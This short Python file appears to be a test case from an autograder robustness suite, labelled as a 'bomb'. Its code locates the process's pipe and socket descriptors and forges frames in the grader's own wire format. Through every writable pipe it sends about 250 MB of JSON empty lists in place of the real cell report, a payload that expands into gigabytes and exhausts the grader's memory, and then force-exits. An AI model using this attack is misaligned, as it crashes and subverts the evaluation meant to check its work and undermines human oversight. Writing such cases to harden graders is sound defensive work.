"""Writes a frame of 250 MB of JSON of empty lists in place of the report of its cells, which becomes many gigabytes of objects when it is read.

family: bombs
start: solved
"""

# %% after plot
def _pipes():
    """The pipe descriptors of this process: (those to read from, those to write to)."""
    import fcntl, os, stat

    readers, writers = [], []
    try:
        numbers = [int(name) for name in os.listdir("/proc/self/fd")]
    except OSError:
        numbers = range(3, 1024)
    for fd in numbers:
        try:
            if fd < 3 or not (stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode)):
                continue
            mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        except OSError:
            continue
        if mode in (os.O_RDONLY, os.O_RDWR):
            readers.append(fd)
        if mode in (os.O_WRONLY, os.O_RDWR):
            writers.append(fd)
    return readers, writers


def _frame(tag, body, length=None):
    import struct

    return struct.pack(">4sQ", tag, len(body) if length is None else length) + body


def _message(value):
    """Two frames, as the grader's own wire makes them."""
    from autograder.evidence import pack

    structure, tensors = pack(value)
    return _frame(b"JSON", structure) + _frame(b"TENS", tensors)


def _write_all(data):
    import os

    for fd in _pipes()[1]:
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(fd, view[:65536]) :]
        except OSError:
            continue

import os
import time

_body = b"[" + b"[]," * (83 * 2**20) + b"[]]"
_write_all(_frame(b"JSON", _body) + _frame(b"TENS", b""))
time.sleep(30)
os._exit(0)
